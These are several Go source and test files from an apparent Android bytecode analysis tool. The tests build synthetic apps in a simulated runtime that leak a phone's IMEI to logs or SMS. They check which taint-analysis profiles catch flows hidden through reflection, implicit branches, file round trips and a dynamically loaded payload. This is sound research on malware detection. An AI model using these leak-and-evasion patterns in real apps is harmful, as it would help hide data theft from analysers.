		a.LogLeak("t", a.P(0), 1)
		a.ReturnVoid()
	})
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeVirtual("Lc/Main;", "fetch", "()Ljava/lang/String;", a.This())
		a.MoveResultObject(0)
		a.InvokeVirtual("Lc/Main;", "send", "(Ljava/lang/String;)V", a.This(), 0)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), true, true, true)
}

func TestFieldFlowAcrossLifecycle(t *testing.T) {
	p := dexgen.New()
	cls := activity(p, "Ld/Main;")
	cls.Field("stash", "Ljava/lang/String;")
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.IPutObject(0, a.This(), "Ld/Main;", "stash", "Ljava/lang/String;")
		a.ReturnVoid()
	})
	cls.Virtual("onResume", "V", nil, func(a *dexgen.Asm) {
		a.IGetObject(0, a.This(), "Ld/Main;", "stash", "Ljava/lang/String;")
		a.LogLeak("t", 0, 1)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), true, true, true)
}

func TestImplicitFlowOnlyHornDroid(t *testing.T) {
	p := dexgen.New()
	// if (imei.startsWith("3")) Log("1") else Log("0") — classic implicit.
	activity(p, "Le/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ConstString(1, "3")
		a.InvokeVirtual("Ljava/lang/String;", "startsWith", "(Ljava/lang/String;)Z", 0, 1)
		a.MoveResult(2)
		a.IfZ(bytecode.OpIfEqz, 2, "zero")
		a.ConstString(3, "1")
		a.LogLeak("t", 3, 4)
		a.ReturnVoid()
		a.Label("zero")
		a.ConstString(3, "0")
		a.LogLeak("t", 3, 4)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), false, false, true)
}

func TestDeepFrameworkFlow(t *testing.T) {
	p := dexgen.New()
	// Taint through one TextView's state: shallow model loses it.
	activity(p, "Lf/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.NewInstance(0, "Landroid/widget/TextView;")
		a.InvokeDirect("Landroid/widget/TextView;", "<init>", "()V", 0)
		a.GetIMEI(1, 2)
		a.InvokeVirtual("Landroid/widget/TextView;", "setText", "(Ljava/lang/String;)V", 0, 1)
		a.InvokeVirtual("Landroid/widget/TextView;", "getText", "()Ljava/lang/String;", 0)
		a.MoveResultObject(3)
		a.LogLeak("t", 3, 4)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), false, true, true)
}

func TestContainerFalsePositiveOnlyDroidSafe(t *testing.T) {
	p := dexgen.New()
	// Taint into view A, sink from view B: deep-but-object-insensitive
	// models conflate the two.
	activity(p, "Lg/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.NewInstance(0, "Landroid/widget/TextView;")
		a.InvokeDirect("Landroid/widget/TextView;", "<init>", "()V", 0)
		a.NewInstance(1, "Landroid/widget/TextView;")
		a.InvokeDirect("Landroid/widget/TextView;", "<init>", "()V", 1)
		a.GetIMEI(2, 3)
		a.InvokeVirtual("Landroid/widget/TextView;", "setText", "(Ljava/lang/String;)V", 0, 2)
		a.ConstString(4, "clean")
		a.InvokeVirtual("Landroid/widget/TextView;", "setText", "(Ljava/lang/String;)V", 1, 4)
		a.InvokeVirtual("Landroid/widget/TextView;", "getText", "()Ljava/lang/String;", 1)
		a.MoveResultObject(5)
		a.LogLeak("t", 5, 4)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), false, true, false)
}

func TestAliasFalsePositiveNotHornDroid(t *testing.T) {
	p := dexgen.New()
	holder := p.Class("Lh/Holder;", "")
	holder.Ctor("Ljava/lang/Object;", nil)
	holder.Field("data", "Ljava/lang/String;")
	activity(p, "Lh/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.NewInstance(0, "Lh/Holder;")
		a.InvokeDirect("Lh/Holder;", "<init>", "()V", 0)
		a.NewInstance(1, "Lh/Holder;")
		a.InvokeDirect("Lh/Holder;", "<init>", "()V", 1)
		a.GetIMEI(2, 3)
		a.IPutObject(2, 0, "Lh/Holder;", "data", "Ljava/lang/String;")
		a.IGetObject(4, 1, "Lh/Holder;", "data", "Ljava/lang/String;")
		a.LogLeak("t", 4, 3)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), true, true, false)
}

func TestImplicitBenignFPOnlyHornDroid(t *testing.T) {
	p := dexgen.New()
	// Condition is tainted, but only a constant ever reaches the sink and
	// the data flow is clean: implicit tracking over-approximates.
	activity(p, "Li/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 0)
		a.MoveResult(2)
		a.IfZ(bytecode.OpIfLez, 2, "skip")
		a.ConstString(3, "present")
		a.LogLeak("t", 3, 4)
		a.Label("skip")
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), false, false, true)
}

func reflectionApp(t *testing.T, build func(cls *dexgen.Class)) *dex.File {
	t.Helper()
	p := dexgen.New()
	cls := activity(p, "Lr/Main;")
	cls.Virtual("secretSource", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ReturnObj(0)
	})
	build(cls)
	return finish(t, p)
}

// emitReflectiveLeak emits forName(classReg)+getMethod(nameReg)+invoke+log.
func emitReflectiveLeak(a *dexgen.Asm, clsNameReg, methNameReg int32) {
	a.InvokeStatic("Ljava/lang/Class;", "forName",
		"(Ljava/lang/String;)Ljava/lang/Class;", clsNameReg)
	a.MoveResultObject(clsNameReg)
	a.InvokeVirtual("Ljava/lang/Class;", "getMethod",
		"(Ljava/lang/String;)Ljava/lang/reflect/Method;", clsNameReg, methNameReg)
	a.MoveResultObject(methNameReg)
	a.Const(4, 0)
	a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
		"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", methNameReg, a.This(), 4)
	a.MoveResultObject(5)
	a.LogLeak("t", 5, 4)
}

func TestReflectionConstResolvedByAll(t *testing.T) {
	f := reflectionApp(t, func(cls *dexgen.Class) {
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.ConstString(0, "r.Main")
			a.ConstString(1, "secretSource")
			emitReflectiveLeak(a, 0, 1)
			a.ReturnVoid()
		})
	})
	expect(t, verdicts(t, f), true, true, true)
}

func TestReflectionNameViaParam(t *testing.T) {
	f := reflectionApp(t, func(cls *dexgen.Class) {
		cls.Virtual("helper", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
			a.ConstString(0, "r.Main")
			a.MoveObject(1, a.P(0))
			emitReflectiveLeak(a, 0, 1)
			a.ReturnVoid()
		})
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.ConstString(0, "secretSource")
			a.InvokeVirtual("Lr/Main;", "helper", "(Ljava/lang/String;)V", a.This(), 0)
			a.ReturnVoid()
		})
	})
	expect(t, verdicts(t, f), false, true, true)
}

func TestReflectionNameViaField(t *testing.T) {
	f := reflectionApp(t, func(cls *dexgen.Class) {
		cls.Field("mName", "Ljava/lang/String;")
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.ConstString(0, "secretSource")
			a.IPutObject(0, a.This(), "Lr/Main;", "mName", "Ljava/lang/String;")
			a.ReturnVoid()
		})
		cls.Virtual("onResume", "V", nil, func(a *dexgen.Asm) {
			a.ConstString(0, "r.Main")
			a.IGetObject(1, a.This(), "Lr/Main;", "mName", "Ljava/lang/String;")
			emitReflectiveLeak(a, 0, 1)
			a.ReturnVoid()
		})
	})
	expect(t, verdicts(t, f), false, false, true)
}

func TestReflectionNoStringUnresolvable(t *testing.T) {
	f := reflectionApp(t, func(cls *dexgen.Class) {
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			// getDeclaredMethods()[0].invoke(this, null): no name string.
			a.ConstString(0, "r.Main")
			a.InvokeStatic("Ljava/lang/Class;", "forName",
				"(Ljava/lang/String;)Ljava/lang/Class;", 0)
			a.MoveResultObject(0)
			a.InvokeVirtual("Ljava/lang/Class;", "getDeclaredMethods",
				"()[Ljava/lang/reflect/Method;", 0)
			a.MoveResultObject(1)
			a.Const(2, 0)
			a.AGet(bytecode.OpAGetObject, 3, 1, 2)
			a.Const(4, 0)
			a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
				"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", 3, a.This(), 4)
			a.MoveResultObject(5)
			a.LogLeak("t", 5, 4)
			a.ReturnVoid()
		})
	})
	expect(t, verdicts(t, f), false, false, false)
}

func TestExtraLifecycleOnlyFlowDroid(t *testing.T) {
	p := dexgen.New()
	activity(p, "Ll/Main;").Virtual("onLowMemory", "V", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("t", 0, 2)
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), true, false, false)
}

func TestDeadBranchFlowFlaggedByAll(t *testing.T) {
	p := dexgen.New()
	activity(p, "Lm/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.Const(2, 0)
		a.IfZ(bytecode.OpIfEqz, 2, "skip") // always taken at runtime
		a.LogLeak("t", 0, 3)
		a.Label("skip")
		a.ReturnVoid()
	})
	expect(t, verdicts(t, finish(t, p)), true, true, true)
}

func TestCallbackFlow(t *testing.T) {
	p := dexgen.New()
	listener := p.Class("Ln/L;", "", "Landroid/view/View$OnClickListener;")
	listener.Ctor("Ljava/lang/Object;", nil)
	listener.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("t", 0, 2)
		a.ReturnVoid()
	})
	// onClick calls getSystemService on `this`, which is not an Activity —
	// but the framework summary keys on the method, so it still sources.
	expect(t, verdicts(t, finish(t, p)), true, true, true)
}

func TestFileRoundTripSeversFlow(t *testing.T) {
	p := dexgen.New()
	activity(p, "Lo/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ConstString(1, "/sdcard/x")
		a.InvokeStatic("Ljava/io/FileUtil;", "writeExternal",
			"(Ljava/lang/String;Ljava/lang/String;)V", 1, 0)
		a.InvokeStatic("Ljava/io/FileUtil;", "readExternal",
			"(Ljava/lang/String;)Ljava/lang/String;", 1)
		a.MoveResultObject(2)
		a.SendSMS("555", 2, 3) // needs regs 3..8; locals default 6 → up to v8? ensure
		a.ReturnVoid()
	})
	got := map[string]bool{}
	f := finish(t, p)
	for _, prof := range taint.Profiles() {
		res, err := taint.Analyze([]*dex.File{f}, prof)
		if err != nil {
			t.Fatal(err)
		}
		// The write itself is a FILE sink carrying taint; the SMS of the
		// read-back data must NOT appear.
		smsLeak := false
		for _, fl := range res.Flows {
			if fl.Sink == apimodel.SinkSMS {
				smsLeak = true
			}
		}
		got[prof.Name] = smsLeak
	}
	for tool, leak := range got {
		if leak {
			t.Errorf("%s tracked taint through the file round trip", tool)
		}
	}
}

func TestDynamicallyLoadedCodeVisibleOnlyWithPayload(t *testing.T) {
	host := dexgen.New()
	activity(host, "Lp/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.NewInstance(0, "Ldalvik/system/DexClassLoader;")
		a.ConstString(1, "payload.dex")
		a.InvokeDirect("Ldalvik/system/DexClassLoader;", "<init>", "(Ljava/lang/String;)V", 0, 1)
		a.ReturnVoid()
	})
	hostFile := finish(t, host)

	payload := dexgen.New()
	activity(payload, "Lq/Evil;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("t", 0, 2)
		a.ReturnVoid()
	})
	payloadFile := finish(t, payload)

	expect(t, verdicts(t, hostFile), false, false, false)
	expect(t, verdicts(t, hostFile, payloadFile), true, true, true)
}

func TestFlowCountingDistinctSinks(t *testing.T) {
	p := dexgen.New()
	activity(p, "Ls/Main;").Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("a", 0, 2)
		a.LogLeak("b", 0, 2)
		a.SendSMS("555", 0, 2)
		a.ReturnVoid()
	})
	res, err := taint.Analyze([]*dex.File{finish(t, p)}, taint.FlowDroid())
	if err != nil {
		t.Fatal(err)
	}
	if res.Count() != 3 {
		t.Errorf("flow count = %d, want 3 (distinct call sites)", res.Count())
	}
}
