package taint

import (
	"testing"
	"testing/quick"
)

func randFact(taint uint32, str string, hasStr bool, objPC int, hasObj bool) fact {
	f := fact{Taint: taint}
	if hasStr {
		f.HasStr, f.Str = true, str
	}
	if hasObj {
		f.HasObj = true
		f.Obj = objID{Method: "m", PC: objPC}
	}
	return f
}

// TestJoinLattice checks the abstract-value join is a proper lattice
// operation: commutative, idempotent, and monotone in the taint component.
func TestJoinLattice(t *testing.T) {
	commutative := func(t1, t2 uint32, s1, s2 string, h1, h2 bool, p1, p2 uint8, o1, o2 bool) bool {
		a := randFact(t1, s1, h1, int(p1), o1)
		b := randFact(t2, s2, h2, int(p2), o2)
		return join(a, b) == join(b, a)
	}
	if err := quick.Check(commutative, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error("join not commutative:", err)
	}
	idempotent := func(t1 uint32, s1 string, h1 bool, p1 uint8, o1 bool) bool {
		a := randFact(t1, s1, h1, int(p1), o1)
		return join(a, a) == a
	}
	if err := quick.Check(idempotent, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error("join not idempotent:", err)
	}
	monotone := func(t1, t2 uint32) bool {
		a, b := fact{Taint: t1}, fact{Taint: t2}
		j := join(a, b)
		return j.Taint&t1 == t1 && j.Taint&t2 == t2
	}
	if err := quick.Check(monotone, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error("join loses taint:", err)
	}
}

// TestJoinDropsDisagreeingConstants verifies the constant-tracking parts of
// a fact survive a join only when both sides agree.
func TestJoinDropsDisagreeingConstants(t *testing.T) {
	a := fact{HasStr: true, Str: "x"}
	b := fact{HasStr: true, Str: "y"}
	if j := join(a, b); j.HasStr {
		t.Error("disagreeing strings survived join")
	}
	if j := join(a, a); !j.HasStr || j.Str != "x" {
		t.Error("agreeing strings lost in join")
	}
	c1 := fact{HasCls: true, Cls: "La;"}
	c2 := fact{HasCls: true, Cls: "Lb;"}
	if j := join(c1, c2); j.HasCls {
		t.Error("disagreeing classes survived join")
	}
	m1 := fact{HasMeth: true, MethCls: "La;", MethName: "f"}
	m2 := fact{HasMeth: true, MethCls: "La;", MethName: "g"}
	if j := join(m1, m2); j.HasMeth {
		t.Error("disagreeing methods survived join")
	}
	o1 := fact{HasObj: true, Obj: objID{Method: "m", PC: 1}}
	o2 := fact{HasObj: true, Obj: objID{Method: "m", PC: 2}}
	if j := join(o1, o2); j.HasObj {
		t.Error("disagreeing allocation sites survived join")
	}
}

func TestJoinAllAndEqual(t *testing.T) {
	a := []fact{{Taint: 1}, {Taint: 2}}
	b := []fact{{Taint: 2}, {Taint: 4}}
	j := joinAll(a, b)
	if j[0].Taint != 3 || j[1].Taint != 6 {
		t.Errorf("joinAll = %+v", j)
	}
	if !equalFacts(j, j) {
		t.Error("equalFacts reflexivity")
	}
	if equalFacts(a, b) {
		t.Error("different fact vectors compare equal")
	}
	if equalFacts(a, a[:1]) {
		t.Error("length mismatch compares equal")
	}
}
