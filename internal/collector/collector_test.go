package collector_test

import (
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dexgen"
)

// buildAndCollect loads the program, runs drive, and returns the result.
func buildAndCollect(t *testing.T, p *dexgen.Program, natives map[string]art.NativeFunc, drive func(rt *art.Runtime)) *collector.Result {
	t.Helper()
	data, err := p.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	pkg := apk.New("col", "1", "")
	pkg.SetDex(data)
	rt := art.NewRuntime(art.DefaultPhone())
	for k, fn := range natives {
		rt.RegisterNative(k, fn)
	}
	col := collector.New()
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	drive(rt)
	return col.Result()
}

func TestLoopDeduplication(t *testing.T) {
	p := dexgen.New()
	p.Class("Lc/L;", "").Static("sum", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Const(0, 0)
		a.Const(1, 0)
		a.Label("loop")
		a.If(bytecode.OpIfGe, 1, a.P(0), "done")
		a.Binop(bytecode.OpAddInt, 0, 0, 1)
		a.AddLit(1, 1, 1)
		a.Goto("loop")
		a.Label("done")
		a.Return(0)
	})
	res := buildAndCollect(t, p, nil, func(rt *art.Runtime) {
		// 1000 loop iterations execute ~4000 instructions; the tree must
		// stay at the static body size (the paper's code-scale argument).
		if _, err := rt.Call("Lc/L;", "sum", "(I)I", nil, []art.Value{art.IntVal(1000)}); err != nil {
			t.Fatal(err)
		}
	})
	rec := res.Methods["Lc/L;->sum(I)I"]
	if rec == nil || len(rec.Trees) != 1 {
		t.Fatalf("rec = %+v", rec)
	}
	tree := rec.Trees[0]
	if got := tree.Size(); got != 7 {
		t.Errorf("tree size = %d, want 7 (one IL entry per static instruction)", got)
	}
	if len(tree.Children) != 0 {
		t.Errorf("loop created %d divergence children", len(tree.Children))
	}
	if tree.Depth() != 1 {
		t.Errorf("depth = %d", tree.Depth())
	}
	// IL order is first-execution order, and the IIM inverts it.
	for pc, idx := range tree.IIM {
		if tree.IL[idx].DexPC != pc {
			t.Errorf("IIM[%d] = %d points at pc %d", pc, idx, tree.IL[idx].DexPC)
		}
	}
}

// TestNestedSelfModification drives two LAYERS of self-modifying code: the
// tamper rewrites an instruction, and while the divergent state runs, a
// second tamper rewrites another instruction inside it — the "multiple
// layers" case of the paper's Fig. 3 (node 2's children 4 and 5).
func TestNestedSelfModification(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Ln/M;", "")
	cls.Native("mutate", "V", "I")
	// g(): two mutation points A (pc of const v0) and B (const v1); driver
	// calls g() three times with the native rewriting constants so that the
	// second call diverges at A and, within that layer, the third call
	// diverges at B.
	cls.Static("g", "I", nil, func(a *dexgen.Asm) {
		a.Label("A")
		a.Const(0, 1)
		a.Label("B")
		a.Const(1, 1)
		a.Binop(bytecode.OpAddInt, 2, 0, 1)
		a.Return(2)
	})
	mutateAt := func(env *art.Env, which int64, newLit int64) error {
		return env.TamperMethod("Ln/M;", "g", func(insns []uint16) []uint16 {
			// const/4 v0 is at pc 0; const/4 v1 at pc 1.
			pc := int(which)
			in, _, err := bytecode.Decode(insns, pc)
			if err != nil || in.Op != bytecode.OpConst4 {
				t.Fatalf("mutation point %d is %v (%v)", pc, in.Op, err)
			}
			in.Lit = newLit
			units, err := bytecode.Encode(in)
			if err != nil {
				t.Fatal(err)
			}
			copy(insns[pc:], units)
			return nil
		})
	}
	natives := map[string]art.NativeFunc{
		"Ln/M;->mutate(I)V": func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			switch args[0].Int {
			case 0:
				return art.Value{}, mutateAt(env, 0, 3) // layer 1 at pc 0
			case 1:
				return art.Value{}, mutateAt(env, 1, 5) // layer 2 at pc 1
			}
			return art.Value{}, nil
		},
	}
	res := buildAndCollect(t, p, natives, func(rt *art.Runtime) {
		call := func(want int64) {
			r, err := rt.Call("Ln/M;", "g", "()I", nil, nil)
			if err != nil {
				t.Fatal(err)
			}
			if r.Int != want {
				t.Fatalf("g() = %d, want %d", r.Int, want)
			}
		}
		mutate := func(which int64) {
			if _, err := rt.Call("Ln/M;", "mutate", "(I)V", nil,
				[]art.Value{art.IntVal(which)}); err != nil {
				t.Fatal(err)
			}
		}
		call(2)   // baseline: 1+1
		mutate(0) // layer 1: v0 becomes 3
		call(4)   // 3+1
		mutate(1) // layer 2: v1 becomes 5 while layer 1 active
		call(8)   // 3+5
	})
	rec := res.Methods["Ln/M;->g()I"]
	if rec == nil {
		t.Fatal("record missing")
	}
	// Three executions: baseline (tree 1), layer1 (tree 2 = divergence at
	// pc 0 within the execution? No: each execution is a fresh tree; the
	// modified code is simply different content), so we get three unique
	// trees whose contents differ at the mutation points.
	if len(rec.Trees) != 3 {
		t.Fatalf("unique trees = %d, want 3", len(rec.Trees))
	}
}

// TestIntraExecutionDivergenceLayers rewrites the method WHILE it executes
// (through a looped native call). Each loop pass that observes different
// bytecode at the recorded dex_pc forks a divergence child; once the layer
// converges back to the parent, a later mismatch forks a sibling — the
// shape Algorithm 1 produces for repeated same-site modification.
func TestIntraExecutionDivergenceLayers(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lx/M;", "")
	cls.Native("step", "V", "I")
	// Loop three times; each iteration executes the mutation site then lets
	// the native rewrite it for the next pass: iteration 2 diverges from
	// iteration 1's recording, iteration 3 diverges from iteration 2's.
	cls.Static("h", "I", nil, func(a *dexgen.Asm) {
		a.Const(3, 0) // i
		a.Const(2, 0) // acc
		a.Label("loop")
		a.Const(4, 3)
		a.If(bytecode.OpIfGe, 3, 4, "end")
		a.Label("site")
		a.BinopLit8(bytecode.OpAddIntLit8, 2, 2, 1) // mutated between passes
		a.InvokeStatic("Lx/M;", "step", "(I)V", 3)
		a.AddLit(3, 3, 1)
		a.Goto("loop")
		a.Label("end")
		a.Return(2)
	})
	natives := map[string]art.NativeFunc{
		"Lx/M;->step(I)V": func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			iter := args[0].Int
			return art.Value{}, env.TamperMethod("Lx/M;", "h", func(insns []uint16) []uint16 {
				for pc := 0; pc < len(insns); {
					in, w, err := bytecode.Decode(insns, pc)
					if err != nil {
						return nil
					}
					if in.Op == bytecode.OpAddIntLit8 && in.A == 2 && in.B == 2 {
						in.Lit = iter + 2 // 1 -> 2 -> 3 across iterations
						units, err := bytecode.Encode(in)
						if err != nil {
							return nil
						}
						copy(insns[pc:], units)
						return nil
					}
					pc += w
				}
				return nil
			})
		},
	}
	res := buildAndCollect(t, p, natives, func(rt *art.Runtime) {
		r, err := rt.Call("Lx/M;", "h", "()I", nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if r.Int != 1+2+3 {
			t.Fatalf("h() = %d, want 6", r.Int)
		}
	})
	rec := res.Methods["Lx/M;->h()I"]
	if rec == nil || len(rec.Trees) != 1 {
		t.Fatalf("trees = %+v", rec)
	}
	tree := rec.Trees[0]
	if tree.Depth() != 2 {
		t.Errorf("divergence depth = %d, want 2", tree.Depth())
	}
	if len(tree.Children) != 2 {
		t.Fatalf("tree children = %d, want 2 (one per modified pass)", len(tree.Children))
	}
	for i, child := range tree.Children {
		if child.SmStart != tree.Children[0].SmStart {
			t.Errorf("children diverge at different pcs")
		}
		if child.SmEnd < 0 {
			t.Errorf("child %d never converged", i)
		}
		if len(child.IL) != 1 {
			t.Errorf("child %d IL = %d entries, want 1 (the rewritten site)", i, len(child.IL))
		}
	}
}

func TestClassMetadataCollection(t *testing.T) {
	p := dexgen.New()
	iface := p.Class("Lc/I;", "")
	iface.AbstractM("doIt", "V", nil)
	cls := p.Class("Lc/C;", "", "Lc/I;")
	cls.Source("C.java")
	cls.StaticString("NAME", "benchmark")
	cls.StaticInt("SIZE", 7)
	cls.Field("count", "I")
	cls.Ctor("Ljava/lang/Object;", nil)
	cls.Virtual("doIt", "V", nil, func(a *dexgen.Asm) { a.ReturnVoid() })
	res := buildAndCollect(t, p, nil, func(rt *art.Runtime) {
		c, err := rt.FindClass("Lc/C;")
		if err != nil {
			t.Fatal(err)
		}
		if err := rt.EnsureInitialized(c); err != nil {
			t.Fatal(err)
		}
	})
	rec := res.Class("Lc/C;")
	if rec == nil {
		t.Fatal("class record missing")
	}
	if rec.SourceFile != "C.java" {
		t.Errorf("source = %q", rec.SourceFile)
	}
	if len(rec.Interfaces) != 1 || rec.Interfaces[0] != "Lc/I;" {
		t.Errorf("interfaces = %v", rec.Interfaces)
	}
	var sawName, sawSize bool
	for _, f := range rec.StaticFields {
		switch f.Name {
		case "NAME":
			sawName = f.Value != nil && f.Value.Kind == "string" && f.Value.Str == "benchmark"
		case "SIZE":
			sawSize = f.Value != nil && f.Value.Int == 7
		}
	}
	if !sawName || !sawSize {
		t.Errorf("static values not collected: %+v", rec.StaticFields)
	}
	if len(rec.InstanceFields) != 1 || rec.InstanceFields[0].Name != "count" {
		t.Errorf("instance fields = %+v", rec.InstanceFields)
	}
	var shellNames []string
	for _, sh := range rec.Methods {
		shellNames = append(shellNames, sh.Name)
	}
	if len(shellNames) != 2 {
		t.Errorf("method shells = %v", shellNames)
	}
	// The interface referenced by the class must be recorded too, or the
	// revealed DEX could not re-link.
	if res.Class("Lc/I;") == nil {
		t.Error("interface metadata not recorded")
	}
}
