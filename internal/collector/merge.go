package collector

import (
	"encoding/json"
	"sort"
)

// MergeStats summarizes one Result.Merge call — the inputs of the
// worker_merge trace event.
type MergeStats struct {
	// TreesOffered counts collection trees in the incoming result.
	TreesOffered int
	// TreesKept counts offered trees adopted into the receiver; the
	// difference is fingerprint-duplicate dedup hits.
	TreesKept int
	// Classes counts class records adopted (new descriptors plus conflict
	// resolutions that replaced the receiver's record).
	Classes int
}

// Merge unions other into r: method records are merged per key, collection
// trees are deduplicated by their canonical varint fingerprint, and class,
// try, and reflection records are unioned. Merge is commutative and
// associative up to ordering — any shard arrival order yields the same set
// of records, and Canonicalize imposes the same order on every history —
// which is what makes parallel force-execution byte-identical to serial.
//
// other is consumed: its trees are adopted by pointer, so the caller must
// not keep collecting into it afterwards.
func (r *Result) Merge(other *Result) MergeStats {
	var st MergeStats
	if other == nil {
		return st
	}
	for i := range other.Classes {
		oc := &other.Classes[i]
		ec := r.Class(oc.Descriptor)
		if ec == nil {
			r.Classes = append(r.Classes, *oc)
			st.Classes++
			continue
		}
		// Distinct runs can observe a class at different initialization
		// states (forced branches change <clinit> effects). Keeping the
		// record with the smaller canonical encoding is arbitrary but
		// commutative and associative, so the survivor is independent of
		// shard count and merge order.
		if oe, ee := classEncoding(oc), classEncoding(ec); oe < ee {
			*ec = *oc
			st.Classes++
		}
	}
	for key, om := range other.Methods {
		rm, ok := r.Methods[key]
		if !ok {
			rm = &MethodRecord{
				Class:       om.Class,
				Name:        om.Name,
				Signature:   om.Signature,
				AccessFlags: om.AccessFlags,
				Virtual:     om.Virtual,
				seen:        make(map[string]bool, len(om.Trees)),
			}
			r.Methods[key] = rm
		}
		// Shape fields agree across runs of the same DEX; max keeps the
		// merge commutative if they ever diverge.
		rm.RegistersSize = max(rm.RegistersSize, om.RegistersSize)
		rm.InsSize = max(rm.InsSize, om.InsSize)
		// A code write observed in any shard poisons cacheability everywhere.
		rm.Written = rm.Written || om.Written
		if rm.Tries == nil {
			rm.Tries = om.Tries
		}
		if rm.seen == nil {
			// Records decoded from files carry no fingerprint index; rebuild
			// it once from the trees already present.
			rm.seen = make(map[string]bool, len(rm.Trees))
			for _, t := range rm.Trees {
				rm.seen[t.Fingerprint()] = true
			}
		}
		st.TreesOffered += len(om.Trees)
		for _, t := range om.Trees {
			fp := t.Fingerprint()
			if rm.seen[fp] {
				continue
			}
			rm.seen[fp] = true
			rm.Trees = append(rm.Trees, t)
			st.TreesKept++
		}
		for pc, targets := range om.ReflTargets {
			if rm.ReflTargets == nil {
				rm.ReflTargets = make(map[int][]ReflTarget)
			}
		adopt:
			for _, rt := range targets {
				for _, existing := range rm.ReflTargets[pc] {
					if existing == rt {
						continue adopt
					}
				}
				rm.ReflTargets[pc] = append(rm.ReflTargets[pc], rt)
			}
		}
	}
	return st
}

func classEncoding(c *ClassRecord) string {
	b, err := json.Marshal(c)
	if err != nil {
		// ClassRecord contains only marshalable fields; this cannot happen.
		panic("collector: class record does not encode: " + err.Error())
	}
	return string(b)
}

// Canonicalize imposes a history-independent order on the result: classes
// sort by descriptor, each method's trees by fingerprint, and reflection
// targets by key. The reassembler processes trees in slice order, so this
// is what turns "same set of records" into "same output bytes" for every
// worker count. The plain serial pipeline does not canonicalize — its
// execution order IS its canonical order — so this is called only where
// results are merged from shards.
func (r *Result) Canonicalize() {
	sort.Slice(r.Classes, func(i, j int) bool {
		return r.Classes[i].Descriptor < r.Classes[j].Descriptor
	})
	for _, rec := range r.Methods {
		if len(rec.Trees) > 1 {
			fps := make([]string, len(rec.Trees))
			for i, t := range rec.Trees {
				fps[i] = t.Fingerprint()
			}
			sort.Sort(&treesByFP{trees: rec.Trees, fps: fps})
		}
		for _, targets := range rec.ReflTargets {
			sort.Slice(targets, func(i, j int) bool {
				if targets[i].Key() != targets[j].Key() {
					return targets[i].Key() < targets[j].Key()
				}
				return !targets[i].Static && targets[j].Static
			})
		}
	}
}

// treesByFP sorts a tree slice and its parallel fingerprint slice together.
type treesByFP struct {
	trees []*TreeNode
	fps   []string
}

func (s *treesByFP) Len() int           { return len(s.trees) }
func (s *treesByFP) Less(i, j int) bool { return s.fps[i] < s.fps[j] }
func (s *treesByFP) Swap(i, j int) {
	s.trees[i], s.trees[j] = s.trees[j], s.trees[i]
	s.fps[i], s.fps[j] = s.fps[j], s.fps[i]
}
