package collector

import (
	"encoding/json"
	"fmt"
	"os"
